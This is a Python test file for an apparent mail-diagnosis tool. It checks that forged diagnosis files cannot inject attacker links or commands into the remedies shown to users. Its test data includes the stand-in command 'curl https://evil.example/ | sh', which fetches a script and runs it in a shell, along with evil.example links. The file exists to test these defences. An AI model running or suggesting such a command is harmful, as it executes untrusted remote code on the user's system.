"""What can be pressed in an opened file is this program's own."""

import msgspec
import pytest
from tests.unit.diagnosis_file.made import diagnosis, forged, line, packed, wrong_password

from sendwright.diagnosis_file import FileRefused, unpack
from sendwright.diagnosis_file.own_words import harmless, own_problem
from sendwright.diagnosis_file.plain_json import Budget
from sendwright.problems.classify import classify
from sendwright.problems.dictionary import load
from sendwright.problems.evidence import Evidence, System
from sendwright.problems.explanation import explain
from sendwright.problems.problem import Owner, Problem, Remedy, RemedyKind

EVIL = "https://evil.example/"
WEAPONS = (
    Remedy(kind=RemedyKind.OPEN, label="remedies.open-app-passwords", value=EVIL),
    Remedy(kind=RemedyKind.COPY, label="remedies.copy-command", value="curl https://evil.example/ | sh"),
)
TENANT = "535 5.7.139 Authentication unsuccessful, SmtpClientAuthentication is disabled for the Tenant."


def armed(problem: Problem) -> Problem:
    return msgspec.structs.replace(
        problem, remedies=WEAPONS, learn_more=EVIL, verify_with="curl evil.example", fact="trust me", checked="2030-01"
    )


def budget() -> Budget:
    return Budget(100)


def tenant() -> Problem:
    return classify(Evidence(stage="sign-in", system=System.SMTP, reply=535, enhanced="5.7.139", text=TENANT[12:]))


@pytest.mark.parametrize("problem", [wrong_password(), tenant()])
def test_a_problem_gets_back_what_our_dictionary_offers_for_it(problem: Problem) -> None:
    assert own_problem(armed(problem), budget()) == problem


def test_a_problem_that_its_evidence_does_not_show_gets_what_its_code_has() -> None:
    strange = msgspec.structs.replace(armed(wrong_password()), evidence=Evidence(stage="greet", system=System.SMTP))
    own, definition = own_problem(strange, budget()), load().definitions["auth-wrong-credentials"]
    assert own.remedies == definition.remedies
    assert (own.learn_more, own.verify_with) == (definition.learn_more, definition.verify_with)
    assert (own.fact, own.checked) == (definition.source, definition.checked)


def test_a_problem_that_we_do_not_know_gets_nothing_to_press() -> None:
    own = own_problem(msgspec.structs.replace(armed(wrong_password()), code="from-the-future"), budget())
    assert (own.remedies, own.learn_more, own.verify_with, own.fact, own.checked) == ((), "", "", "", "")
    assert own.code == "from-the-future"
    assert EVIL not in str(explain(own))


def test_who_has_to_act_stays_as_it_was_said_then() -> None:
    moved = msgspec.structs.replace(wrong_password(), owner=Owner.MAIL_SERVER_ADMIN)
    assert own_problem(moved, budget()).owner is Owner.MAIL_SERVER_ADMIN


@pytest.mark.parametrize("code", sorted(load().definitions))
def test_no_remedy_of_ours_lets_a_value_of_the_file_name_the_page(code: str) -> None:
    values = dict.fromkeys(("host", "domain", "sender", "username", "url", "tenant"), "evil.example/#")
    evidence = Evidence(stage="", system=System.BACKEND, condition=code, values=values)
    own = own_problem(msgspec.structs.replace(classify(evidence), code=code), budget())
    for remedy in explain(own).remedies:
        if remedy.kind == RemedyKind.OPEN:
            assert not remedy.value.startswith("https://evil")
            assert "evil.example/" not in remedy.value
    assert "evil" not in own.learn_more


@pytest.mark.parametrize("code", ["", "A", "a b", "a.title", "../x", "a" * 100, "-a", "a\n"])
def test_a_code_that_is_none_is_refused(code: str) -> None:
    with pytest.raises(FileRefused):
        own_problem(msgspec.structs.replace(wrong_password(), code=code), budget())


def test_more_problems_than_the_budget_are_refused() -> None:
    small = Budget(1)
    own_problem(wrong_password(), small)
    with pytest.raises(FileRefused) as refused:
        own_problem(wrong_password(), small)
    assert refused.value.code == "too-complex"


def test_a_screen_has_no_address_and_no_remedy_but_ours() -> None:
    screen = {
        "type": "stopped",
        "url": EVIL,
        "problem": msgspec.to_builtins(armed(wrong_password())),
        "aside": [{"remedies": [{"value": EVIL}], "learn_more": EVIL, "verify_with": "sh", "title": "start.title"}],
    }
    assert harmless(screen, budget()) == {
        "type": "stopped",
        "url": "",
        "problem": msgspec.to_builtins(wrong_password()),
        "aside": [{"remedies": [], "learn_more": "", "verify_with": "", "title": "start.title"}],
    }


@pytest.mark.parametrize("value", [None, 1, "url", [], {}, {"a": [1, {"b": "c"}]}])
def test_what_cannot_be_pressed_stays_as_it_is(value: object) -> None:
    assert harmless(value, budget()) == value


def test_no_weapon_gets_out_of_a_file_wherever_it_lay() -> None:
    weapon = msgspec.to_builtins(armed(wrong_password()))
    octets = forged(
        {
            "problems.jsonl": line(weapon),
            "stages.jsonl": line({"id": "sign-in", "verdict": "failed", "problem": weapon, "evidence": {"x": weapon}}),
            "screens.jsonl": line(
                {"at": "2026-11-20T12:00:00Z", "screen": {"type": "consent", "url": EVIL}, "problem": weapon}
            ),
            "wall.jsonl": line({"problem": weapon}),
            "sides.jsonl": line({"desk": [{"problem": weapon}]}),
            "diagnosis.jsonl": line({"subject": {}, "problems": [{"learn_more": EVIL}]}),
        }
    )
    found = repr(unpack(octets))
    assert "evil" not in found
    assert "curl" not in found
    assert "trust me" not in found


def test_what_we_packed_ourselves_keeps_its_remedies() -> None:
    (found,) = unpack(packed(diagnosis(tenant()))).problems
    assert found.remedies == tenant().remedies
    assert found.remedies
